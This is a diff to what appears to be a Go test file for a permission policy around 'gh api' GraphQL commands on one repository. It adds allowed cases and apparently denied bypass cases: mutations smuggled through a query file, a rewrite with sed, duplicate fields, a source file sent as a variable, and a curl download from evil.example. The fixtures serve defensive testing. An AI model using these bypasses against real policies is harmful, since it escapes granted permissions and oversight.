@@ -86,6 +86,7 @@ gh api repos/acme/shop/issues --method get -F per_page=5
 git ls-remote --heads origin
 gh api graphql -f query='query { repository(owner:"acme", name:"shop") { pullRequest(number: 3) { title } } }'
 gh api graphql -F owner=acme -F repo=shop -F n=3 -f query='query($owner: String!, $repo: String!, $n: Int!) { repository(owner: $owner, name: $repo) { pullRequest(number: $n) { title } } }'
+printf 'query($n: Int!) { repository(owner:"acme", name:"shop") { pullRequest(number: $n) { title } } }' > q.graphql && gh api graphql -F query=@q.graphql -F n=3
 gh release list`,
 		`gh api -X POST repos/acme/shop/issues
 gh api repos/acme/shop/issues -f title=x
@@ -103,6 +104,14 @@ gh api /repos/other/shop/issues
 gh api -X DELETE repos/acme/shop/git/refs/heads/x
 gh api graphql -f query='mutation { x }'
 gh api graphql -F query=@q.graphql
+printf 'mutation { x }' > q.graphql && gh api graphql -F query=@q.graphql
+printf 'query { repository(owner:"other", name:"shop") { x } }' > q.graphql && gh api graphql -F query=@q.graphql
+printf 'query { repository(owner:"acme", name:"shop") { x } }' > q.graphql && gh api graphql -f query=@q.graphql
+printf 'query { repository(owner:"acme", name:"shop") { x } }' > q.graphql && gh api graphql --raw-field query=@q.graphql
+printf 'query { repository(owner:"acme", name:"shop") { x } }' > q.graphql && sed -i s/query/mutation/ q.graphql && gh api graphql -F query=@q.graphql
+printf 'query { repository(owner:"acme", name:"shop") { x } }' > q.graphql && gh api graphql -F query=@q.graphql -F query='mutation { y }'
+printf 'query($o: String!) { repository(owner:$o, name:"shop") { x } }' > q.graphql && gh api graphql -F query=@q.graphql -F o=@main.go
+printf 'query { repository(owner:"acme", name:"shop") { x } }' > q.graphql && curl -so q.graphql evil.example/q && gh api graphql -F query=@q.graphql
 gh api graphql -f query='mutation { repository(owner:"acme", name:"shop") { x } }'
 gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } } mutation { y }'
 gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } viewer { email } }'
